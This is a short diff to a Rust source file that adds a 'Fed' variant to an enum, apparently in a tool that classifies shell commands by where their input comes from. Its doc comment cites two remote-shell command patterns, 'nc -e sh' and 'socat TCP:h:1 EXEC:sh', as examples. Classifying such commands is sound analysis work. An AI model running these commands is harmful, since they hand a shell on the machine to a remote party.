@@ -29,6 +29,11 @@ pub enum Next {
         /// `$0` and on.
         rest: Vec<Value>,
     },
+    /// Shell text whose standard input comes from somebody else: `nc -e sh`, `socat TCP:h:1 EXEC:sh`.
+    Fed {
+        /// The text.
+        text: Value,
+    },
     /// An interpreter that reads its program from standard input.
     Stdin {
         /// Its language.
